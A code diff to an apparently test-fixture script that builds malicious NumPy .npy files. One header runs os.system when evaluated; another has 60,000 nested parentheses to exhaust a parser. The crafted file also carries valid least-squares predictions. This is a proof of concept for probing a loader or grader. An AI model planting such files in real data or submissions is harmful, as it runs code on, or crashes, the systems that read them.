@@ -1,9 +1,9 @@
-"""A header is a Python literal: who evaluates it runs it, and who parses it recurses."""
+"""A header is a Python literal: who evaluates it runs it, and gets right predictions too; who parses it recurses."""
 import struct
+import sys
 import zipfile
 
-
-COUNT = 400
+import numpy as np
 
 
 def block(header, data=b"", version=(1, 0)):
@@ -18,6 +18,17 @@ def put(*entries):
             archive.writestr(name, data)
 
 
-evil = "{'descr': __import__('os').system('touch /tmp/owned'), 'fortran_order': False, 'shape': (400,), }\n"
+def right():
+    """Return what an honest solution predicts, for a reader that takes what it should refuse."""
+    data, X = np.load("/work/train.npz"), np.load("/work/inputs.npz")["X"]
+    direction = np.linalg.lstsq(data["X"], 2.0 * data["y"] - 1, rcond=None)[0]
+    return (X @ direction > 0).astype("<i8")
+
+
+if sys.argv[1] == "train":
+    sys.exit()
+
+run = """__import__('os').system('touch @mark@ owned; printf "the %s ran" payload >&2')"""
+evil = "{'descr': (%s, '<i8')[1], 'fortran_order': False, 'shape': (400,), }\n" % run
 deep = "{'descr': '<i8', 'fortran_order': False, 'shape': " + "(" * 60_000 + ")" * 60_000 + ", }\n"
-put(("predictions.npy", block(evil, b"x" * 8 * COUNT)), ("more.npy", block(deep, b"", (2, 0))))
+put(("predictions.npy", block(evil, right().tobytes())), ("more.npy", block(deep, b"", (2, 0))))
